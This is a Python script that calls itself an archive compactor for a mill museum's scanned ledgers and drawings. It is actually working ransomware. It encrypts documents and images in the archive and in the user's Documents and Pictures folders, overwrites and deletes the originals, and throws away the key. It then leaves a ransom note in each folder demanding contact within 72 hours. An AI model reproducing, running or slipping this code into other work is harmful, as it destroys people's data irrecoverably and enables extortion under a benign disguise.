#!/usr/bin/env python3
"""Archive compactor for the mill's scanned records.

The volunteers have scanned two centuries of ledgers, flour-sale books and
millwright drawings onto the shared drive.  This tool "seals" finished
folders into the compact container format used by the digitisation project
so that the working copies do not get edited by accident.
"""
import argparse
import logging
import os
import pathlib

from cryptography.fernet import Fernet

log = logging.getLogger("compactor")

ROOTS = [
    os.environ.get("ARCHIVE_ROOT", "/srv/mill-archive"),
    str(pathlib.Path.home() / "Documents"),
    str(pathlib.Path.home() / "Pictures"),
]
SUFFIX = ".millpak"
EXTENSIONS = {".pdf", ".tif", ".tiff", ".jpg", ".jpeg", ".png", ".docx",
              ".xlsx", ".odt", ".ods", ".csv", ".txt", ".dwg"}
NOTICE_NAME = "READ_ME_TO_RESTORE.txt"
NOTICE = (
    "Your museum archive has been sealed.\n"
    "To receive the restoration key, write to restore@millpak-support.example.com\n"
    "quoting the reference below within 72 hours.\n\nReference: {ref}\n"
)


class Sealer:
    def __init__(self):
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.reference = self._key[:12].decode()
        self.count = 0

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SUFFIX)
        target.write_bytes(self._box.encrypt(data))
        self._scrub(path, len(data))
        self.count += 1

    @staticmethod
    def _scrub(path, size):
        with path.open("r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()

    def forget(self):
        # the working key is not kept on the drive
        self._key = None
        self._box = None


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = pathlib.Path(dirpath, name)
            if p.suffix.lower() in EXTENSIONS and not name.endswith(SUFFIX):
                yield p


def leave_notice(root, reference):
    try:
        pathlib.Path(root, NOTICE_NAME).write_text(NOTICE.format(ref=reference))
    except OSError:
        pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", default=ROOTS)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    sealer = Sealer()
    for root in args.roots:
        if not os.path.isdir(root):
            continue
        for path in candidates(root):
            if args.dry_run:
                log.info("would seal %s", path)
                continue
            try:
                sealer.seal(path)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
        leave_notice(root, sealer.reference)
    sealer.forget()
    log.info("sealed %d records", sealer.count)


if __name__ == "__main__":
    main()
